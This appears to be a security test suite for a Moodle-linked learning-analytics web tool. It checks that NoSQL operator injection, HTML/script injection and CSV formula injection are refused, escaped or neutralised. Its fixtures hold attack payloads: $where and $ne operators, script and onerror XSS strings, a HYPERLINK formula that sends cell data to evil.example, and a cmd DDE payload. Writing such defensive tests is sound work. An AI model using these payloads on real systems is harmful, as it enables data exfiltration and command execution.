// Injection on every input: MongoDB operators where a value is expected, markup in every text people or Moodle
// can put on a page, and spreadsheet formulas in the learner table's CSV.
import { Types } from 'mongoose';
import { TestBrowser, type BrowserPage } from '../platform';
import { ROLE } from '../support/lti-roles';
import { moodleLogCsv } from '../support/moodle-log-builder';
import {
  ALPHA,
  NAMES,
  csrfOn,
  databaseFingerprint,
  fingerprintDifference,
  formFields,
  startSecurityWorld,
  type Launched,
  type SecurityWorld,
} from './security-world';
import { openAlerts } from '../../src/store/alert-repository';
import { issueXapiCredential } from '../../src/ingest/xapi-credential-issuer';
import { AlertModel } from '../../src/store/models/alert-model';
import { AuditEntryModel } from '../../src/store/models/audit-entry-model';
import { EngagementEventModel } from '../../src/store/models/engagement-event-model';
import { ModuleSettingsModel } from '../../src/store/models/module-settings-model';
import { listPlatformProfiles } from '../../src/store/platform-repository';

/** Handlebars' escaping of {{…}} output. */
function escaped(text: string): string {
  const map: Record<string, string> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#x27;', '`': '&#x60;', '=': '&#x3D;' };
  return text.replace(/[&<>"'`=]/g, (c) => map[c] ?? c);
}

/** Markup that could run: scripts other than ours, event-handler attributes, javascript: URLs, frames. */
function injectedMarkup(html: string): string[] {
  const found: string[] = [];
  for (const [tag] of html.matchAll(/<script\b[^>]*>/gi)) {
    if (!/^<script src="\/static\/[^"]+" defer>$/.test(tag) && !/^<script type="application\/json" id="[\w-]+">$/.test(tag)) found.push(tag);
  }
  for (const [tag] of html.matchAll(/<[a-z][^>]*\son[a-z]+\s*=[^>]*>/gi)) found.push(tag);
  for (const [attr] of html.matchAll(/\b(?:href|src|action)\s*=\s*["']?\s*javascript:[^>]*/gi)) found.push(attr);
  for (const [tag] of html.matchAll(/<(?:iframe|svg|object|embed)\b[^>]*>/gi)) found.push(tag);
  return found;
}

/** RFC 4180 reading of the CSV Waymark writes (every cell quoted, CRLF line ends, BOM). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const body = text.replace(/^\uFEFF/, '');
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell.replace(/\r$/, ''));
      rows.push(row);
      row = [];
      cell = '';
    } else cell += c;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

describe('injection', () => {
  let world: SecurityWorld;
  let staff: Launched & { csrf: string };
  let student: Launched & { csrf: string };
  let admin: Launched & { csrf: string };
  let alphaModule: string;
  let s1: string;

  beforeAll(async () => {
    world = await startSecurityWorld();
    alphaModule = await world.moduleId('one', ALPHA.id);
    s1 = await world.memberId('one', ALPHA.id, 's1');
    const withToken = async (launched: Launched, page?: string) => {
      const csrf = csrfOn(launched.landing) ?? (page ? csrfOn(await world.open(launched.browser, page, launched.ltik)) : undefined);
      if (!csrf) throw new Error(`No form token for ${launched.landing.url}`);
      return { ...launched, csrf };
    };
    staff = await withToken(await world.launch('one', ALPHA.id, 't1', [ROLE.instructor]));
    student = await withToken(await world.launch('one', ALPHA.id, 's1', [ROLE.learner]));
    admin = await withToken(await world.launch('one', ALPHA.id, 'a1', [ROLE.institutionAdmin]), '/app/admin/data-rights?user=s2');
  });

  afterAll(async () => {
    await world.close();
  });

  /**
   * Runs a request and asserts it left every stored record as it was. A refused form that comes back on a page
   * showing a learner's data (`viewAudited`) adds exactly one audit entry: every such view is logged.
   */
  async function unchanged(send: () => Promise<BrowserPage>, opts: { viewAudited?: boolean } = {}): Promise<BrowserPage> {
    const before = await databaseFingerprint();
    const auditBefore = await AuditEntryModel.countDocuments({});
    const page = await send();
    const changed = fingerprintDifference(before, await databaseFingerprint());
    if (!opts.viewAudited) {
      expect(changed).toEqual([]);
      return page;
    }
    expect(changed.filter((part) => part !== 'audit')).toEqual([]);
    const added = await AuditEntryModel.find({}).sort({ _id: 1 }).skip(auditBefore).lean();
    expect(added.map((a) => a.action)).toEqual(['learner.view']);
    return page;
  }

  describe('MongoDB operators where a value is expected', () => {
    const TABLE_FILTERS: Array<[string, string]> = [
      ['q[$ne]', 'x'],
      ['q[$regex]', '.*'],
      ['alert[$ne]', 'all'],
      ['source[$gt]', ''],
      ['since[$gt]', ''],
      ['sort[$ne]', 'name'],
      ['dir[$ne]', 'asc'],
      ['page[$gt]', '0'],
    ];

    it.each(TABLE_FILTERS)('when staff send %s=%s to the learner table and its CSV, then both refuse it with 400 and list no one', async (key, value) => {
      for (const path of ['/app/module', '/app/module/learners.csv']) {
        const page = await world.open(staff.browser, path, staff.ltik, { [key]: value });
        expect({ path, status: page.status }).toEqual({ path, status: 400 });
        expect(page.html).not.toContain(NAMES.s2);
      }
    });

    it('when the search box holds operator syntax as text, then it is searched for as text and matches no one', async () => {
      for (const q of ['{"$gt":""}', '{"$where":"1"}', '$ne']) {
        const page = await world.open(staff.browser, '/app/module', staff.ltik, { q });
        expect(page.status).toBe(200);
        for (const name of [NAMES.s1, NAMES.s2, NAMES.s3]) expect(page.html).not.toContain(name);
      }
    });

    it.each([['tab[$ne]', 'closed'], ['rule[$ne]', 'all'], ['page[$gt]', '0']])('when staff send %s=%s to the alert queue, then it is refused with 400', async (key, value) => {
      const page = await world.open(staff.browser, '/app/module/alerts', staff.ltik, { [key]: value });
      expect(page.status).toBe(400);
    });

    it('when a learner id in the URL is operator syntax or a 12-character string, then it is not found', async () => {
      for (const id of ['{"$gt":""}', '{"$ne":null}', '[$ne]', 'aaaaaaaaaaaa', '$where']) {
        const page = await world.open(staff.browser, `/app/learners/${encodeURIComponent(id)}`, staff.ltik);
        expect({ id, status: page.status }).toEqual({ id, status: 404 });
        expect(page.html).not.toContain(NAMES.s1);
      }
    });

    it('when an alert id in the URL is operator syntax, then it is not found and nothing changes', async () => {
      await openAlerts(alphaModule, [{ memberId: s1, rule: 'noEngagement', audience: 'staff', key: 'injection-1', since: '2026-01-05', evidence: { text: 'Quiet.', figures: {} } }], new Date());
      for (const id of ['{"$ne":null}', '{"$gt":""}']) {
        const page = await unchanged(() => world.post(staff.browser, `/app/module/alerts/${encodeURIComponent(id)}`, staff.ltik, { _csrf: staff.csrf, action: 'acknowledge' }));
        expect(page.status).toBe(404);
      }
      expect(await AlertModel.countDocuments({ moduleId: new Types.ObjectId(alphaModule), state: 'open', key: 'injection-1' })).toBe(1);
    });

    it('when an alert action arrives as JSON with operators, then it is refused with 400 and nothing changes', async () => {
      const alert = await AlertModel.findOne({ moduleId: new Types.ObjectId(alphaModule), key: 'injection-1' }).lean();
      const page = await unchanged(() =>
        world.request(staff.browser, 'POST', `/app/module/alerts/${String(alert?._id)}`, staff.ltik, { json: { _csrf: staff.csrf, action: { $ne: null }, note: { $gt: '' } } }),
      );
      expect(page.status).toBe(400);
    });

    it('when a supportive contact arrives as JSON with operators in its fields, then the form is refused and nothing is stored', async () => {
      const page = await unchanged(() =>
        world.request(staff.browser, 'POST', `/app/learners/${s1}/interventions`, staff.ltik, {
          json: { _csrf: staff.csrf, method: { $ne: null }, contactedOn: { $gt: '' }, note: { $where: 'sleep(100)' }, memberId: { $ne: null } },
        }),
        { viewAudited: true },
      );
      expect(page.status).toBe(422);
    });

    it('when a known cause or data-report answer arrives as JSON with operators, then it is refused and nothing is stored', async () => {
      const cause = await unchanged(() =>
        world.request(staff.browser, 'POST', `/app/learners/${s1}/known-causes`, staff.ltik, { json: { _csrf: staff.csrf, from: { $gt: '' }, to: { $gt: '' }, reason: { $ne: '' } } }),
        { viewAudited: true },
      );
      expect(cause.status).toBe(422);
      const report = await unchanged(() =>
        world.request(staff.browser, 'POST', `/app/learners/${s1}/data-reports/${encodeURIComponent('{"$ne":null}')}`, staff.ltik, { json: { _csrf: staff.csrf, status: 'resolved', staffNote: '' } }),
      );
      expect(report.status).toBe(404);
      const flag = await unchanged(() => world.request(staff.browser, 'POST', `/app/learners/${s1}/not-learner`, staff.ltik, { json: { _csrf: staff.csrf, value: { $ne: 'no' } } }));
      expect(flag.status).toBe(400);
    });

    it('when the settings form arrives as JSON with operators in its fields, then it is refused and the stored settings keep no operator', async () => {
      const settingsPage = await world.open(staff.browser, '/app/module/settings', staff.ltik);
      const form = formFields(settingsPage, '/app/module/settings');
      const page = await unchanged(() =>
        world.request(staff.browser, 'POST', '/app/module/settings', staff.ltik, { json: { ...form, start: { $gt: '' }, timeZone: { $ne: null }, expectationsText: { $where: '1' } } }),
      );
      expect(page.status).toBe(422);
      // Fields that are not text are read as empty, never passed on: a valid form with operator-valued extras saves plain text.
      const saved = await world.request(staff.browser, 'POST', '/app/module/settings', staff.ltik, { json: { ...form, contactText: { $where: '1' }, moduleId: { $ne: null } } });
      expect(saved.status).toBe(303);
      const stored = JSON.stringify(await ModuleSettingsModel.find({}).lean());
      expect(stored).not.toMatch(/"\$(?:where|ne|gt)"/);
    });

    it('when a student’s data report arrives with operators (JSON or bracketed form fields), then it is refused and nothing is stored', async () => {
      const json = await unchanged(
        () => world.request(student.browser, 'POST', '/app/me/data-reports', student.ltik, { json: { _csrf: student.csrf, source: { $ne: null }, text: { $gt: '' } } }),
        { viewAudited: true },
      );
      expect(json.status).toBe(400);
      const form = await unchanged(() => world.post(student.browser, '/app/me/data-reports', student.ltik, { _csrf: student.csrf, 'source[$ne]': 'vle', 'text[$gt]': '' }), { viewAudited: true });
      expect(form.status).toBe(400);
    });

    it('when an upload’s fields use bracketed operators, then the upload is refused with 400 and nothing is imported', async () => {
      const upload = new FormData();
      upload.append('format[$ne]', 'x');
      upload.append('dayMonthOrder[$gt]', '');
      upload.append('file', new Blob([moodleLogCsv([{ at: new Date('2026-01-12T10:00:00Z'), userId: 's1', fullName: NAMES.s1 }])]), 'log.csv');
      const page = await unchanged(() => world.post(staff.browser, '/app/module/import', staff.ltik, upload, { _csrf: staff.csrf }));
      expect(page.status).toBe(400);
      const due = await unchanged(() => world.request(staff.browser, 'POST', `/app/module/assignments/${new Types.ObjectId().toString()}/due-date`, staff.ltik, { json: { _csrf: staff.csrf, due: { $gt: '' } } }));
      expect(due.status).toBe(400);
    });

    it('when the launch token itself is operator syntax, then the request is refused as not launched', async () => {
      const query = await world.open(staff.browser, '/app/module', undefined, { 'ltik[$ne]': 'x' });
      expect(query.status).toBe(401);
      const twice = await world.request(staff.browser, 'GET', `/app/module?ltik=${encodeURIComponent(staff.ltik)}&ltik=${encodeURIComponent(staff.ltik)}`, undefined);
      expect(twice.status).toBe(401);
      const body = await unchanged(() => world.request(staff.browser, 'POST', '/app/me/data-reports', undefined, { json: { ltik: { $ne: null }, _csrf: student.csrf, source: 'vle', text: 'x' } }));
      expect(body.status).toBe(401);
    });

    it.each([
      ['user[$ne]', 'nobody'],
      ['user[$regex]', '.*'],
    ])('when an administrator searches data rights with %s=%s, then it is refused with 400 and no one is shown', async (key, value) => {
      for (const path of ['/app/admin/data-rights', '/app/admin/data-rights/export.json']) {
        const page = await world.open(admin.browser, path, admin.ltik, { [key]: value });
        expect({ path, status: page.status }).toEqual({ path, status: 400 });
        expect(page.html).not.toContain(NAMES.s1);
      }
    });

    it('when an administrator searches for operator syntax as a user id, then no one is found', async () => {
      const page = await world.open(admin.browser, '/app/admin/data-rights', admin.ltik, { user: '{"$ne":null}' });
      expect(page.status).toBe(200);
      expect(page.html).toContain('data-testid="person-not-found"');
    });

    it('when an erasure arrives as JSON with operators for the user id, then it is refused and no one is erased', async () => {
      const page = await unchanged(() =>
        world.request(admin.browser, 'POST', '/app/admin/data-rights/erase', admin.ltik, { json: { _csrf: admin.csrf, user: { $ne: 'nobody' }, confirm: { $ne: 'nobody' } } }),
      );
      expect(page.status).toBe(400);
    });

    it.each([
      ['learner[$ne]', 'x'],
      ['module[$gt]', ''],
      ['action[$ne]', 'x'],
      ['after[$gt]', ''],
    ])('when an administrator filters the audit log with %s=%s, then it is refused with 400', async (key, value) => {
      for (const path of ['/app/admin/audit', '/app/admin/audit.csv']) {
        const page = await world.open(admin.browser, path, admin.ltik, { [key]: value });
        expect({ path, status: page.status }).toEqual({ path, status: 400 });
      }
    });

    it('when the audit log’s page cursor names an impossible time, then it is refused with 400', async () => {
      const page = await world.open(admin.browser, '/app/admin/audit', admin.ltik, { after: `2026-13-45T99:99:99Z_${new Types.ObjectId().toString()}` });
      expect(page.status).toBe(400);
    });

    it('when the registration page’s remove form sends bracketed operators, then it is refused with 400 and no platform is removed', async () => {
      // The registration pages have their own sign-in (ADMIN_SECRET), not a launch.
      const browser = new TestBrowser();
      const signedIn = await browser.post(`${world.tool.baseUrl}/admin/login`, { secret: 'test-admin-secret' });
      expect(new URL(signedIn.url).pathname).toBe('/admin/registration');
      const csrf = csrfOn(signedIn) ?? '';
      const before = (await listPlatformProfiles()).length;
      const page = await browser.post(`${world.tool.baseUrl}/admin/registration/remove`, { _csrf: csrf, 'issuer[$ne]': 'x', 'clientId[$ne]': 'x' });
      expect(page.status).toBe(400);
      expect((await listPlatformProfiles()).length).toBe(before);
    });

    describe('xAPI statements', () => {
      let key: { keyId: string; secret: string };
      const basic = (keyId: string, secret: string) => `Basic ${Buffer.from(`${keyId}:${secret}`).toString('base64')}`;
      const send = (authorization: string, body: unknown) =>
        fetch(`${world.tool.baseUrl}/xapi/statements`, { method: 'POST', headers: { authorization, 'content-type': 'application/json' }, body: JSON.stringify(body) });
      const statement = (overrides: Record<string, unknown> = {}) => ({
        id: '6a0d1c7e-1111-4222-8333-944455556666',
        actor: { name: 'Someone', account: { homePage: world.one.platform.issuer, name: 's1' } },
        verb: { id: 'http://id.tincanapi.com/verb/viewed', display: { en: 'viewed' } },
        object: { id: `${world.one.platform.issuer}/mod/page/view.php?id=643`, objectType: 'Activity' },
        timestamp: '2026-01-12T10:00:00.000Z',
        context: { contextActivities: { parent: [{ id: `${world.one.platform.issuer}/course/view.php?id=${ALPHA.id}` }] } },
        ...overrides,
      });

      beforeAll(async () => {
        const issued = await issueXapiCredential({ scope: 'module', platformId: await world.platformId('one'), moduleId: alphaModule, label: 'Logstore', by: { userId: 't1', name: 'Tamsin' }, at: new Date() });
        key = { keyId: issued.credential.keyId, secret: issued.secret };
      });

      it.each([
        ['a key id that is operator syntax', '{"$gt":""}', 'x'],
        ['a key id naming an operator', '$where', 'x'],
        ['the real key id with an operator as the secret', 'REAL', '{"$ne":null}'],
      ])('when the Basic credentials carry %s, then the request is refused with 401 and nothing is stored', async (_what, keyId, secret) => {
        const before = await EngagementEventModel.countDocuments({});
        const res = await send(basic(keyId === 'REAL' ? key.keyId : keyId, secret), statement());
        expect(res.status).toBe(401);
        expect(await EngagementEventModel.countDocuments({})).toBe(before);
      });

      it.each([
        ['the actor’s account name', { actor: { name: 'x', account: { homePage: 'https://moodle.example', name: { $ne: null } } } }],
        ['the statement id', { id: { $gt: '' } }],
        ['the course in the context', { context: { contextActivities: { parent: [{ id: { $ne: null } }] } } }],
        ['the timestamp', { timestamp: { $gt: '' } }],
      ])('when a statement carries an operator in %s, then it is refused with 400 and nothing is stored', async (_what, overrides) => {
        const before = await EngagementEventModel.countDocuments({});
        const res = await send(basic(key.keyId, key.secret), [statement(overrides)]);
        expect(res.status).toBe(400);
        expect(await EngagementEventModel.countDocuments({})).toBe(before);
      });
    });
  });

  describe('markup in names and free text', () => {
    const COURSE = 'XSS1';
    const MARKUP = {
      title: 'Course <img src=x onerror=alert("title")>',
      name: 'Evil <script>alert("name")</script> Learner',
      reportText: '<b onmouseover=alert("report")>My Tuesday is missing</b>',
      note: '<iframe src=javascript:alert("note")></iframe> Spoke after class',
      reason: '<svg onload=alert("cause")> Authorised absence',
      contact: '<a href="javascript:alert(1)">Contact the office</a>',
      expectations: '<script>alert("expectations")</script> Attend weekly',
      keyLabel: '<script>alert("key")</script>',
      filename: '<img src=y onerror=alert("file")>.csv',
      logName: '<script>alert("log")</script> Nobody',
      dismiss: '"><script>alert("dismiss")</script>',
      query: '"><script>alert("q")</script>',
      adminUser: '<script>alert("user")</script>',
    };
    let staffX: Launched & { csrf: string };
    let studentX: Launched;
    let adminX: Launched;
    let sx: string;
    let runId: string;

    beforeAll(async () => {
      const site = world.one.platform;
      site.addCourse({ id: COURSE, title: MARKUP.title });
      site.addMember(COURSE, { userId: 'tx', name: 'Tia Markup', email: 'tx@example.ac.uk', roles: ['Instructor'] });
      site.addMember(COURSE, { userId: 'sx', name: MARKUP.name, roles: ['Learner'] });
      site.addMember(COURSE, { userId: 'sy', name: 'Plain Learner', roles: ['Learner'] });
      const staffLaunch = await world.launch('one', COURSE, 'tx', [ROLE.instructor]);
      staffX = { ...staffLaunch, csrf: csrfOn(staffLaunch.landing) ?? '' };
      sx = await world.memberId('one', COURSE, 'sx');
      const moduleX = await world.moduleId('one', COURSE);

      // Every text goes in through the page a person would use.
      studentX = await world.launch('one', COURSE, 'sx', [ROLE.learner]);
      const reported = await world.post(studentX.browser, '/app/me/data-reports', studentX.ltik, { _csrf: csrfOn(studentX.landing) ?? '', source: 'vle', text: MARKUP.reportText });
      expect(reported.status).toBe(200);
      const as = (path: string, fields: Record<string, string>) => world.post(staffX.browser, path, staffX.ltik, { _csrf: staffX.csrf, ...fields });
      expect((await as(`/app/learners/${sx}/interventions`, { method: 'email', contactedOn: new Date(Date.now() - 86_400_000).toISOString().slice(0, 10), note: MARKUP.note })).status).toBe(200);
      expect((await as(`/app/learners/${sx}/known-causes`, { from: '2026-01-05', to: '2026-01-09', reason: MARKUP.reason })).status).toBe(200);
      const settings = formFields(await world.open(staffX.browser, '/app/module/settings', staffX.ltik), '/app/module/settings');
      expect((await as('/app/module/settings', { ...settings, contactText: MARKUP.contact, expectationsText: MARKUP.expectations })).status).toBe(200);
      expect((await as('/app/module/xapi', { label: MARKUP.keyLabel, scope: 'module' })).status).toBe(201);
      const upload = new FormData();
      upload.append('format', 'moodle-course-log');
      upload.append('file', new Blob([moodleLogCsv([{ at: new Date('2026-01-12T10:00:00Z'), userId: '99999', fullName: MARKUP.logName }])]), MARKUP.filename);
      const imported = await world.post(staffX.browser, '/app/module/import', staffX.ltik, upload, { _csrf: staffX.csrf });
      expect(imported.status).toBe(200);
      runId = new URL(imported.url).pathname.split('/').pop() ?? '';
      await openAlerts(moduleX, [{ memberId: sx, rule: 'noEngagement', audience: 'staff', key: 'markup-1', since: '2026-01-05', evidence: { text: 'Quiet for a while.', figures: {} } }], new Date());
      const alert = await AlertModel.findOne({ moduleId: new Types.ObjectId(moduleX), key: 'markup-1' }).lean();
      expect((await as(`/app/module/alerts/${String(alert?._id)}`, { action: 'dismiss', reason: MARKUP.dismiss })).status).toBe(200);
      adminX = await world.launch('one', COURSE, 'ax', [ROLE.institutionAdmin]);
    });

    const PAGES: Array<{ who: 'staff' | 'student' | 'admin'; path: () => string; query?: Record<string, string>; shows: Array<keyof typeof MARKUP> }> = [
      { who: 'staff', path: () => '/app/module', shows: ['title', 'name'] },
      { who: 'staff', path: () => '/app/module', query: { q: MARKUP.query }, shows: ['title', 'query'] },
      { who: 'staff', path: () => '/app/module/alerts', query: { tab: 'closed' }, shows: ['title', 'name', 'dismiss'] },
      { who: 'staff', path: () => `/app/learners/${sx}`, shows: ['title', 'name', 'reportText', 'note', 'reason', 'dismiss'] },
      { who: 'staff', path: () => '/app/module/settings', shows: ['title', 'contact', 'expectations'] },
      { who: 'staff', path: () => '/app/module/xapi', shows: ['title', 'keyLabel'] },
      { who: 'staff', path: () => '/app/module/import', shows: ['title', 'filename'] },
      { who: 'staff', path: () => `/app/module/import/runs/${runId}`, shows: ['title', 'filename', 'logName'] },
      { who: 'staff', path: () => '/app/overview', shows: ['title'] },
      { who: 'student', path: () => '/app/me', shows: ['title', 'contact', 'expectations', 'reportText'] },
      { who: 'admin', path: () => '/app/overview', shows: ['title'] },
      { who: 'admin', path: () => '/app/admin/audit', shows: ['title'] },
      { who: 'admin', path: () => '/app/admin/data-rights', query: { user: 'sx' }, shows: ['title'] },
      { who: 'admin', path: () => '/app/admin/data-rights', query: { user: MARKUP.adminUser }, shows: ['adminUser'] },
    ];

    it.each(PAGES.map((p) => [`${p.who} ${p.path.toString().replace(/^\(\) => /, '')}${p.query ? ` ?${Object.keys(p.query).join('&')}` : ''}`, p] as const))(
      'when %s is opened, then every text from people and Moodle is shown escaped and no markup can run',
      async (_label, p) => {
        const person = p.who === 'staff' ? staffX : p.who === 'student' ? studentX : adminX;
        const page = await world.open(person.browser, p.path(), person.ltik, p.query ?? {});
        expect(page.status).toBe(200);
        expect(injectedMarkup(page.html)).toEqual([]);
        for (const key of p.shows) {
          expect({ key, raw: page.html.includes(MARKUP[key]) }).toEqual({ key, raw: false });
          expect({ key, escaped: page.html.includes(escaped(MARKUP[key])) }).toEqual({ key, escaped: true });
        }
      },
    );
  });

  describe('spreadsheet formulas in CSV exports', () => {
    const COURSE = 'CSV1';
    const FORMULA_NAMES = [
      '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
      '+SUM(1,2)',
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      'Quote", "=1+1',
    ];
    let staffC: Launched;
    let studentC: Launched;

    beforeAll(async () => {
      const site = world.one.platform;
      site.addCourse({ id: COURSE, title: '=Formula Course' });
      site.addMember(COURSE, { userId: 'tc', name: 'Tom Csv', roles: ['Instructor'] });
      FORMULA_NAMES.forEach((name, i) => site.addMember(COURSE, { userId: `c${i}`, name, roles: ['Learner'] }));
      staffC = await world.launch('one', COURSE, 'tc', [ROLE.instructor]);
      studentC = await world.launch('one', COURSE, 'c0', [ROLE.learner]);
    });

    const formulaStart = /^[=+\-@\t\r]/;

    it('when staff download learners.csv with learners whose names are formulas, then every such cell is neutralised with a leading apostrophe and the rows stay whole', async () => {
      const page = await world.open(staffC.browser, '/app/module/learners.csv', staffC.ltik);
      expect(page.status).toBe(200);
      const rows = parseCsv(page.html);
      const [header, ...body] = rows;
      expect(body).toHaveLength(FORMULA_NAMES.length);
      for (const row of body) expect(row).toHaveLength(header?.length ?? 0);
      expect(body.map((r) => r[0]).sort()).toEqual(FORMULA_NAMES.map((n) => (formulaStart.test(n) ? `'${n}` : n)).sort());
      for (const cell of rows.flat()) expect({ cell, formula: formulaStart.test(cell) }).toEqual({ cell, formula: false });
    });

    it('when a student whose name is a formula downloads their data as CSV, then no cell starts a formula', async () => {
      const page = await world.open(studentC.browser, '/app/me/export.csv', studentC.ltik);
      expect(page.status).toBe(200);
      const cells = parseCsv(page.html).flat();
      expect(cells).toContain(`'${FORMULA_NAMES[0]}`);
      for (const cell of cells) expect({ cell, formula: formulaStart.test(cell) }).toEqual({ cell, formula: false });
    });

    it('when an administrator downloads the audit log of a module whose title is a formula, then no cell starts a formula', async () => {
      const adminC = await world.launch('one', COURSE, 'ac', [ROLE.institutionAdmin]);
      const page = await world.open(adminC.browser, '/app/admin/audit.csv', adminC.ltik);
      expect(page.status).toBe(200);
      const cells = parseCsv(page.html).flat();
      expect(cells).toContain("'=Formula Course");
      for (const cell of cells) expect({ cell, formula: formulaStart.test(cell) }).toEqual({ cell, formula: false });
    });
  });
});
